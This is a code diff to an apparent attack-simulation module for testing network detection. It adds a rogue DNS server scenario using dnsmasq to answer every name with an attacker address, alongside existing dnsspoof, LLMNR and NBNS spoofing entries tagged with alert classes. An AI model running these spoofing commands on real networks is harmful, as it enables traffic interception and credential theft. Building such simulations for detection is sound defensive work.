@@ -1,5 +1,5 @@
 /** Hosts that claim to be a router or a neighbour by IPv6, or a server of names, which they are not. */
-import type { Site } from '../site.ts';
+import { foreignNames, type Site } from '../site.ts';
 import type { Attack, Plan } from './attack.ts';
 
 const speeds = { fast: [1, 1] } as const;
@@ -86,6 +86,22 @@ function forged(site: Site, command: string): Plan {
 }
 
 const forgery = { class: 'names.forged', alerts: ['names.forged'], technique: 'T1557', speeds } as const;
+
+/** Alice, who asks the town's server, is made to ask another, which leads everything to itself. */
+function rogueServer(site: Site): Plan {
+  const [evil, infra] = [site.address('evil'), site.address('infra')];
+  const ask = (server: string) => foreignNames.map((name) => `dig +tries=1 +time=1 @${server} ${name} A > /dev/null; sleep 0.4`).join('; ');
+  const options = `-C /dev/null -d --no-resolv --no-hosts --bind-interfaces --interface=eth0 --user=root --address=/#/${evil}`;
+  return {
+    jobs: [
+      { host: 'evil', argv: ['dnsmasq', ...options.split(' ')] },
+      { host: 'alice', argv: ['bash', '-c', `sleep 1; ${ask(infra)}; sleep 1; ${ask(evil)}`] },
+    ],
+    attackers: [evil],
+    victims: [site.address('alice')],
+    seconds: 12,
+  };
+}
 
 /** Alice looks for computers that are not; whoever is asked, evil says that it is the one. By scapy's `answer`, which takes its own address. */
 function poisoned(answer: string, ask: (site: Site, name: string) => string, needs: readonly string[]): Attack {
@@ -197,6 +213,15 @@ export const neighbourAttacks: readonly Attack[] = [
     tool: 'dnsspoof',
     needs: ['dnsspoof', 'dig'],
     plan: (site) => forged(site, 'exec timeout -s INT 20 dnsspoof -i eth0'),
+  },
+  {
+    class: 'dns.rogue-server',
+    alerts: ['dns.rogue-server'],
+    technique: 'T1557',
+    tool: 'dnsmasq',
+    needs: ['dnsmasq', 'dig'],
+    speeds,
+    plan: rogueServer,
   },
   poisoned('llmnr_spoof', (_site, name) => `dig +noedns +norecurse +tries=1 +time=1 -p 5355 @224.0.0.252 ${name} A`, ['dig']),
   poisoned('nbns_spoof', ({ net }, name) => `nmblookup -B ${net}.255 ${name}`, ['nmblookup']),
